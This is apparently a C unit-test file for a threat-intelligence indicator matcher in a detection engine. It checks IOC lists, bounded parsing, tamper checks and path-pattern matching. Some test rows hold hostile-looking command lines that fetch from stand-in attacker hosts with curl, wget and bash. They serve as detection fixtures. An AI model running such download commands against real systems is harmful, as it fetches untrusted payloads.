/* Indicators on events: which fields are asked, what bounds it, and that sets which are damaged or
 * hostile do no harm. Path patterns are compared with trying each of them. */
#define PCRE2_CODE_UNIT_WIDTH 8
#include "detect/indicator/indicator.h"
#include "detect/indicator/limits.h"
#include <errno.h>
#include <fcntl.h>
#include <pcre2.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cmocka.h>

#define NOW 1700000000

static const char list[] = "evil.com\n192.0.2.7\n198.51.100.0/24\nhttp://bad.example/kit.php\n"
                           "hxxps://[2001:db8::7]/x\n/tmp/.evil/run\nsvch0st.exe\n"
                           "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n";
static const uint8_t sha[32] = {0xe3, 0xb0, 0xc4, 0x42, 0x98, 0xfc, 0x1c, 0x14, 0x9a, 0xfb, 0xf4,
                                0xc8, 0x99, 0x6f, 0xb9, 0x24, 0x27, 0xae, 0x41, 0xe4, 0x64, 0x9b,
                                0x93, 0x4c, 0xa4, 0x95, 0x99, 0x1b, 0x78, 0x52, 0xb8, 0x55};

static int to_buf(void *ctx, struct hm_slice piece)
{
    hm_buf_put(ctx, piece.p, piece.len);
    return ((struct hm_buf *)ctx)->error;
}

static struct hm_buf blob_of(struct hm_slice feed, enum hm_intel_format format,
                             enum hm_intel_form form)
{
    struct hm_intel_builder *b = hm_intel_builder_new(NULL, 3);
    struct hm_intel_feed how = {.format = format, .source = "unit"};
    struct hm_intel_report rep = {0};
    struct hm_buf out = HM_BUF(64 << 20);
    assert_int_equal(hm_intel_import(b, feed, &how, NOW, NULL, NULL, &rep, NULL), 0);
    assert_int_equal(hm_intel_build(b, form, to_buf, &out, NULL), 0);
    hm_intel_builder_free(b);
    return out;
}

struct seen {
    char text[2048];
    size_t len;
};

static void take(void *ctx, const struct hm_intel_hit *h)
{
    struct seen *s = ctx;
    int w = snprintf(s->text + s->len, sizeof s->text - s->len, "%s:%s ", hm_fields[h->field].name,
                     hm_intel_kind_name(h->kind));
    s->len += w > 0 && (size_t)w < sizeof s->text - s->len ? (size_t)w : 0;
}

struct field {
    enum hm_field f;
    const char *text; /* NULL: number */
    uint64_t number;
    size_t len; /* of binary text */
};

static void every_field_that_can_speak_is_asked(void **state)
{
    static const struct {
        struct field fields[4];
        const char *hits;
    } rows[] = {
        {{{HM_F_DST_IP, "\xc0\0\2\7", 0, 4}}, "dst.ip:ip "},
        {{{HM_F_DST_IP, "\0\0\0\0\0\0\0\0\0\0\xff\xff\xc0\0\2\7", 0, 16}}, "dst.ip:ip "},
        {{{HM_F_DST_IP, "\xc6\x33\x64\x55", 0, 4}}, "dst.ip:ip "},
        {{{HM_F_SRC_IP, "\xc0\0\2\7", 0, 4}, {HM_F_NET_DIRECTION, NULL, 1, 0}}, "src.ip:ip "},
        {{{HM_F_SRC_IP, "\xc0\0\2\7", 0, 4}, {HM_F_NET_DIRECTION, NULL, 2, 0}}, ""}, /* ours */
        {{{HM_F_DST_IP, "\xc0\0\2\7", 0, 4}, {HM_F_NET_DIRECTION, NULL, 1, 0}}, ""},
        {{{HM_F_PROCESS_STDIO_IP, "\xc0\0\2\7", 0, 4}}, "process.stdio_ip:ip "},
        {{{HM_F_DST_DOMAIN, "a.EVIL.com"}}, "dst.domain:domain "},
        {{{HM_F_DNS_QUERY_NAME, "evil.com."}}, "dns.query:domain "},
        {{{HM_F_DNS_ANSWERS, "x.org 192.0.2.7 evil.com"}}, "dns.answers:ip dns.answers:domain "},
        {{{HM_F_FILE_PATH, "/tmp/.evil/run"}}, "file.path:path "},
        {{{HM_F_FILE_SOURCE_PATH, "/home/u/SVCH0ST.exe"}}, "file.source_path:name "},
        {{{HM_F_MODULE_PATH, "C:\\x\\svch0st.exe"}}, "module.path:name "},
        {{{HM_F_FILE_SHA256, (const char *)sha, 0, 32}}, "file.sha256:sha256 "},
        {{{HM_F_PROCESS_SHA256, (const char *)sha, 0, 32}}, "process.sha256:sha256 "},
        {{{HM_F_PROCESS_SHA256, (const char *)sha, 0, 31}}, ""},
        {{{HM_F_PROCESS_COMMAND_LINE, "curl -o x 'https://BAD.example/kit.php?a=1';ls"}},
         "process.command_line:url "},
        {{{HM_F_PROCESS_COMMAND_LINE, "wget http://cdn.evil.com:8080/a,"}},
         "process.command_line:domain "},
        {{{HM_F_PROCESS_COMMAND_LINE, "bash -c (http://192.0.2.7/x)"}}, "process.command_line:ip "},
        {{{HM_F_SCRIPT_TEXT, "x=http://[2001:DB8::7]/x\n"}}, "script.text:url "},
        {{{HM_F_PROCESS_COMMAND_LINE, "://evil.com http:// evil.com"}}, ""},
        /* what every event of a process repeats is asked where the process begins */
        {{{HM_F_PROCESS_IMAGE, "/tmp/.evil/run"},
          {HM_F_CLASS, NULL, HM_CLASS_PROCESS, 0},
          {HM_F_ACTION, NULL, HM_ACTION_PROCESS_EXEC, 0}},
         "process.image:path "},
        {{{HM_F_PROCESS_IMAGE, "/tmp/.evil/run"},
          {HM_F_CLASS, NULL, HM_CLASS_NETWORK, 0},
          {HM_F_ACTION, NULL, HM_ACTION_NETWORK_CONNECT, 0},
          {HM_F_DST_IP, "\xc0\0\2\7", 0, 4}},
         "dst.ip:ip "},
        {{{HM_F_DST_IP, "\xc0\0\2\7", 0, 4}, {HM_F_CLASS, NULL, HM_CLASS_FINDING, 0}}, ""},
    };
    (void)state;
    for (int form = 0; form < 2; form++) {
        struct hm_buf blob =
            blob_of(hm_slice_str(list), HM_INTEL_FORMAT_LIST, (enum hm_intel_form)form);
        struct hm_intel *i = NULL;
        assert_int_equal(hm_intel_open(hm_buf_slice(&blob), &i, NULL), 0);
        for (size_t r = 0; r < HM_ARRAY_LEN(rows); r++) {
            static struct hm_event e;
            struct seen s = {0};
            hm_event_clear(&e);
            for (size_t n = 0; n < 4; n++) {
                const struct field *f = &rows[r].fields[n];
                if (f->text)
                    hm_event_set(&e, f->f, hm_slice(f->text, f->len ? f->len : strlen(f->text)));
                else if (f->number)
                    hm_event_set_u64(&e, f->f, f->number);
            }
            hm_intel_match_event(i, &e, NOW, take, &s);
            if (strcmp(s.text, rows[r].hits) != 0)
                fail_msg("row %zu: %s", r, s.text);
        }
        hm_intel_free(i);
        hm_buf_done(&blob);
    }
}

static void a_command_line_full_of_urls_is_bounded(void **state)
{
    static struct hm_event e;
    struct hm_buf blob = blob_of(hm_slice_str(list), HM_INTEL_FORMAT_LIST, HM_INTEL_FULL);
    struct hm_buf line = HM_BUF(1 << 20);
    struct hm_intel *i = NULL;
    (void)state;
    assert_int_equal(hm_intel_open(hm_buf_slice(&blob), &i, NULL), 0);
    for (int n = 0; n < 5000; n++)
        hm_buf_puts(&line, "http://bad.example/kit.php ");
    hm_event_clear(&e);
    hm_event_set(&e, HM_F_PROCESS_COMMAND_LINE, hm_buf_slice(&line));
    assert_int_equal(hm_intel_match_event(i, &e, NOW, NULL, NULL), HM_INTEL_EVENT_URLS_MAX);
    hm_buf_clear(&line);
    for (int n = 0; n < 5000; n++)
        hm_buf_puts(&line, "evil.com ");
    hm_event_clear(&e);
    hm_event_set(&e, HM_F_DNS_ANSWERS, hm_buf_slice(&line));
    assert_int_equal(hm_intel_match_event(i, &e, NOW, NULL, NULL), HM_INTEL_EVENT_NAMES_MAX);
    hm_intel_free(i);
    hm_buf_done(&line);
    hm_buf_done(&blob);
}

/* --- blobs ------------------------------------------------------------------------------------ */
static void a_set_that_was_touched_is_refused(void **state)
{
    struct hm_buf blob = blob_of(hm_slice_str(list), HM_INTEL_FORMAT_LIST, HM_INTEL_FULL);
    struct hm_intel *i = NULL;
    (void)state;
    for (size_t n = 0; n < blob.len; n++) {
        assert_true(hm_intel_open(hm_slice(blob.data, n), &i, NULL) < 0);
        blob.data[n] ^= 0x10;
        assert_true(hm_intel_open(hm_buf_slice(&blob), &i, NULL) < 0);
        blob.data[n] ^= 0x10;
    }
    assert_int_equal(hm_intel_open(hm_buf_slice(&blob), &i, NULL), 0);
    hm_intel_free(i);
    blob.data[8] = 9; /* a later version, whatever its checksum */
    assert_int_equal(hm_intel_open(hm_buf_slice(&blob), &i, NULL), -EPROTONOSUPPORT);
    hm_buf_done(&blob);
}

static void the_same_feeds_give_the_same_bytes(void **state)
{
    struct hm_buf one = blob_of(hm_slice_str(list), HM_INTEL_FORMAT_LIST, HM_INTEL_COMPACT);
    struct hm_buf two = blob_of(hm_slice_str(list), HM_INTEL_FORMAT_LIST, HM_INTEL_COMPACT);
    (void)state;
    assert_int_equal(one.len, two.len);
    assert_memory_equal(one.data, two.data, one.len);
    hm_buf_done(&one);
    hm_buf_done(&two);
}

static void a_file_is_mapped_or_loaded(void **state)
{
    struct hm_buf blob = blob_of(hm_slice_str(list), HM_INTEL_FORMAT_LIST, HM_INTEL_FULL);
    char path[] = "/tmp/hm-intel-XXXXXX";
    int fd = mkstemp(path);
    int (*const ways[])(int, struct hm_intel **, struct hm_error *) = {hm_intel_map, hm_intel_load};
    (void)state;
    assert_true(fd >= 0);
    unlink(path);
    for (size_t n = 0; n < 2; n++) { /* an empty file is none */
        struct hm_intel *i = NULL;
        assert_true(ways[n](fd, &i, NULL) < 0);
    }
    assert_int_equal(write(fd, blob.data, blob.len), (ssize_t)blob.len);
    for (size_t n = 0; n < 2; n++) {
        struct hm_intel *i = NULL;
        assert_int_equal(ways[n](fd, &i, NULL), 0);
        assert_int_equal(hm_intel_find(i, HM_INTEL_SHA256, hm_slice(sha, 32), NOW, NULL, NULL), 1);
        hm_intel_free(i);
    }
    close(fd);
    hm_buf_done(&blob);
}

static void many_values_are_all_found(void **state)
{
    struct hm_buf feed = HM_BUF(16 << 20);
    struct hm_intel *i = NULL;
    (void)state;
    for (unsigned n = 0; n < 30000; n++) /* names, addresses and nested blocks */
        hm_buf_printf(&feed, "h%u.example.com\n10.%u.%u.7\n%s", n, n >> 8 & 255, n & 255,
                      n % 50 ? "" : "11.0.0.0/8\n");
    for (unsigned n = 0; n < 256; n++)
        hm_buf_printf(&feed, "11.%u.0.0/16\n11.%u.128.0/17\n", n, n);
    struct hm_buf blob = blob_of(hm_buf_slice(&feed), HM_INTEL_FORMAT_LIST, HM_INTEL_FULL);
    assert_int_equal(hm_intel_open(hm_buf_slice(&blob), &i, NULL), 0);
    for (unsigned n = 0; n < 30000; n++) {
        char name[64];
        snprintf(name, sizeof name, "www.h%u.example.com", n);
        assert_int_equal(hm_intel_find(i, HM_INTEL_DOMAIN, hm_slice_str(name), NOW, NULL, NULL), 1);
        const uint8_t ip[4] = {10, (uint8_t)(n >> 8), (uint8_t)n, 7};
        assert_int_equal(hm_intel_find(i, HM_INTEL_IP, hm_slice(ip, 4), NOW, NULL, NULL), 1);
        const uint8_t in[4] = {11, (uint8_t)n, (uint8_t)(n >> 8), 1};
        assert_int_equal(hm_intel_find(i, HM_INTEL_IP, hm_slice(in, 4), NOW, NULL, NULL),
                         n >> 8 & 128 ? 3 : 2);
    }
    const uint8_t out[4] = {12, 0, 0, 1};
    assert_int_equal(hm_intel_find(i, HM_INTEL_IP, hm_slice(out, 4), NOW, NULL, NULL), 0);
    hm_intel_free(i);
    hm_buf_done(&blob);
    hm_buf_done(&feed);
}

/* --- path patterns against trying each -------------------------------------------------------- */
#define PATTERNS_MAX 8000
struct all {
    pcre2_code *codes[PATTERNS_MAX];
    char *texts[PATTERNS_MAX];
    size_t count;
    pcre2_match_data *data;
};

static bool known(const struct all *a, const char *pattern)
{
    for (size_t n = 0; n < a->count; n++)
        if (strcmp(a->texts[n], pattern) == 0)
            return true;
    return false;
}

static size_t tried(const struct all *a, const char *path)
{
    size_t hits = 0;
    for (size_t n = 0; n < a->count; n++)
        hits += pcre2_match(a->codes[n], (PCRE2_SPTR)path, strlen(path), 0, 0, a->data, NULL) >= 0;
    return hits;
}

/* A path that the pattern may match: its plain bytes, the first of each choice. */
static void likely(const char *pattern, char *to, size_t cap)
{
    size_t n = 0;
    int skip = 0;
    if (strncmp(pattern, "(?i)", 4) == 0)
        pattern += 4;
    for (const char *p = pattern; *p && n + 1 < cap; p++) {
        if (*p == '\\' && p[1]) {
            p++;
            to[n++] = *p == 'd' ? '7' : *p == 'w' ? 'a' : *p;
        } else if (*p == '|') {
            skip = 1;
        } else if (*p == ')' || *p == '(') {
            skip = 0;
        } else if (!skip && !strchr("^$?*+", *p)) {
            to[n++] = *p;
        }
    }
    to[n] = 0;
}

static void path_patterns_find_what_trying_each_finds(void **state)
{
    struct all a = {.data = pcre2_match_data_create(1, NULL)};
    struct hm_buf feed = HM_BUF(4 << 20), paths = HM_BUF(4 << 20);
    char line[4096], path[4096];
    size_t read = 0, hits = 0;
    (void)state;
    FILE *f = fopen(HM_CORPUS_DIR "/signature-base/filename-iocs.txt", "re");
    if (!f) {
        print_message("skipped: the corpus is not beside this checkout\n");
        pcre2_match_data_free(a.data);
        skip();
    }
    while (fgets(line, sizeof line, f) && a.count < PATTERNS_MAX) {
        size_t end = strcspn(line, ";\n");
        if (line[0] == '#' || line[end] != ';')
            continue;
        line[end] = 0;
        for (char *p = line; (p = strstr(p, "\\\\"));
             p += 2) /* the reader would read both slashes */
            memcpy(p, "\\/", 2);
        if (known(&a, line))
            continue;
        int code;
        PCRE2_SIZE at;
        bool utf = false;
        for (const char *p = line; *p; p++)
            utf |= (unsigned char)*p >= 0x80;
        pcre2_code *c =
            pcre2_compile((PCRE2_SPTR)line, PCRE2_ZERO_TERMINATED,
                          PCRE2_DOLLAR_ENDONLY | (utf ? PCRE2_UTF | PCRE2_MATCH_INVALID_UTF : 0),
                          &code, &at, NULL);
        if (!c)
            continue;
        a.texts[a.count] = strdup(line);
        a.codes[a.count++] = c;
        hm_buf_printf(&feed, "# %zu\n%s;80\n", a.count, line);
        if (read++ % 6 == 0) {
            likely(line, path, sizeof path);
            hm_buf_printf(&paths, "%s\n", path);
        }
    }
    fclose(f);
    struct hm_buf blob = blob_of(hm_buf_slice(&feed), HM_INTEL_FORMAT_FILENAMES, HM_INTEL_FULL);
    struct hm_intel *i = NULL;
    assert_int_equal(hm_intel_open(hm_buf_slice(&blob), &i, NULL), 0);
    assert_int_equal(hm_intel_stats(i).kinds[HM_INTEL_REGEX], a.count);
    hm_buf_put_u8(&paths, 0);
    for (char *p = (char *)paths.data, *next; *p; p = next) {
        char *end = strchr(p, '\n');
        next = end + 1;
        *end = 0;
        size_t want = tried(&a, p);
        size_t got = hm_intel_find(i, HM_INTEL_REGEX, hm_slice_str(p), NOW, NULL, NULL);
        if (got != want)
            fail_msg("%s: %zu instead of %zu", p, got, want);
        hits += got;
    }
    print_message("%zu patterns, %zu hits\n", a.count, hits);
    assert_true(hits > 500);
    for (size_t n = 0; n < a.count; n++)
        pcre2_code_free(a.codes[n]), free(a.texts[n]);
    pcre2_match_data_free(a.data);
    hm_intel_free(i);
    hm_buf_done(&blob);
    hm_buf_done(&feed);
    hm_buf_done(&paths);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_field_that_can_speak_is_asked),
        cmocka_unit_test(a_command_line_full_of_urls_is_bounded),
        cmocka_unit_test(a_set_that_was_touched_is_refused),
        cmocka_unit_test(the_same_feeds_give_the_same_bytes),
        cmocka_unit_test(a_file_is_mapped_or_loaded),
        cmocka_unit_test(many_values_are_all_found),
        cmocka_unit_test(path_patterns_find_what_trying_each_finds),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
